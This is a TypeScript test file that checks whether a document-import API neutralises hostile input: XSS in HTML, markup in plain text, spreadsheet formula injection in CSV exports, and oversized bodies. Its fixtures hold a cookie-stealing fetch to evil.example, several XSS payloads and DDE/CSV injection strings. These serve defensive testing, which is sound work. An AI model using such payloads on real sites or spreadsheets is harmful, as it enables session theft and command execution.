import type { AddressInfo } from 'node:net'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadRules } from '../../src/assess/index.js'
import { loadData } from '../../src/data/index.js'
import { buildApp } from '../../src/server/app.js'
import type { ImportStatus } from '../../src/views/types.js'
import type { DocumentReading } from '../../src/views/types.js'
import { bearerFetch, tokenFor } from '../helpers/api-client.js'
import { must } from '../helpers/must.js'
import { freshStore, STORE_TARGETS } from '../helpers/stores.js'

const data = loadData()
const rules = loadRules()

// Our own sentences around real facts, wrapped in what an attacker would put in a page.
const HOSTILE_HTML = `<html><head><title>Drones <script>alert('title')</script></title>
<script>fetch('https://evil.example/'+document.cookie)</script></head><body>
<article><h1 onmouseover="alert('h1')">Drones for Moscow</h1>
<p onclick="steal()">Iran delivered Shahed-136 drones to Russia in 2022, Ukrainian officials said.<img src=x onerror="alert('img')"></p>
<iframe src="javascript:alert('frame')"></iframe><a href="javascript:alert('link')">more</a>
<style>body{background:url(javascript:alert('css'))}</style></article></body></html>`

const HOSTILE_TEXT =
  'North Korea shipped artillery shells to Russia in 2023, the White House said. ' +
  'A reader comment quoted <script>alert("text")</script> and <img src=x onerror=alert(1)> verbatim.\n\n' +
  '=HYPERLINK("https://evil.example","click") +cmd|\' /C calc\'!A0 @SUM(1+1) -2+3'

describe.each(STORE_TARGETS)('hostile input on $name', (target) => {
  let app: FastifyInstance | null = null
  let base = ''
  let close: (() => Promise<void>) | null = null
  let call: typeof fetch = fetch

  beforeAll(async () => {
    if (!target.available) return
    const fresh = await freshStore(target)
    close = fresh.close
    call = bearerFetch(await tokenFor(fresh.store, 'analyst'))
    app = buildApp({ store: fresh.store, data, rules, webDir: null })
    await app.listen({ host: '127.0.0.1', port: 0 })
    base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}/api/v1`
  })
  afterAll(async () => {
    await app?.close()
    await close?.()
  })

  const post = async (body: unknown) => {
    const r = await call(`${base}/documents`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
    return { status: r.status, body: (await r.json()) as ImportStatus }
  }
  const read = async (id: string) =>
    (await (await call(`${base}/documents/${id}`)).json()) as DocumentReading

  it.skipIf(!target.available)('keeps the text of hostile HTML and drops its code', async () => {
    const { status, body } = await post({ html: HOSTILE_HTML, publisher: 'Test Wire' })
    expect(status).toBe(201)
    const doc = await read(must(body.documents[0]).id)
    expect(doc.text).toMatch(/Iran delivered Shahed-136 drones to Russia in 2022/)
    for (const code of ['alert(', 'document.cookie', 'javascript:', 'onerror', 'onclick', '<']) {
      expect(doc.text.slice(doc.title?.length ?? 0), code).not.toContain(code)
    }
    // <title> holds text, not markup (HTML's RCDATA): it is kept as the literal words, for the
    // dashboard to show as text.
    expect(doc.title).toBe("Drones <script>alert('title')</script>")
    expect(doc.transfers.map((t) => `${t.supplier.id}>${t.recipient.id}`)).toEqual(['IR>RU'])
  })

  it.skipIf(!target.available)('stores markup in plain text as text, unchanged', async () => {
    const { body } = await post({ text: HOSTILE_TEXT, title: 'Shells <b onmouseover=x>north</b>' })
    const doc = await read(must(body.documents[0]).id)
    // Plain text is data: kept verbatim for the reader, which renders it as text.
    expect(doc.text).toContain('<script>alert("text")</script>')
    expect(doc.title).toBe('Shells <b onmouseover=x>north</b>')
    expect(doc.transfers.map((t) => `${t.supplier.id}>${t.recipient.id}`)).toEqual(['KP>RU'])
  })

  it.skipIf(!target.available)('defuses spreadsheet formulas in CSV exports', async () => {
    await post({
      text: 'Iran supplied ballistic missiles to Russia in 2024, according to European officials.',
      publisher: '=HYPERLINK("https://evil.example","Reuters")',
      published: '2024-09-10',
    })
    await post({
      text: 'Russia delivered Su-35 fighter jets to Iran in 2024, Iranian media reported.',
      publisher: "+cmd|' /C calc'!A0",
      published: '2024-11-02',
    })
    for (const format of ['csv', 'register']) {
      const csv = await (await call(`${base}/export?format=${format}`)).text()
      const cells = csv
        .trim()
        .split('\n')
        .flatMap((line) => line.split(','))
        .map((c) => c.replace(/^"/, ''))
      for (const cell of cells) expect(cell, `${format}: ${cell}`).not.toMatch(/^[=+@\t\r]/)
      if (format === 'register') {
        expect(csv).toContain(`'=HYPERLINK(""https://evil.example""`)
        expect(csv).toContain("'+cmd|' /C calc'!A0")
      }
    }
  })

  it.skipIf(!target.available)('refuses oversized and malformed bodies with one line', async () => {
    const huge = await call(`${base}/documents`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text: 'a'.repeat(7 * 1024 * 1024) }),
    })
    expect(huge.status).toBe(413)
    const nested = await call(`${base}/documents`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    })
    expect(nested.status).toBe(400)
    for (const r of [huge, nested]) {
      const e = ((await r.json()) as { error: { message: string } }).error
      expect(e.message).not.toMatch(/\n|at .*\.js/)
    }
  })
})
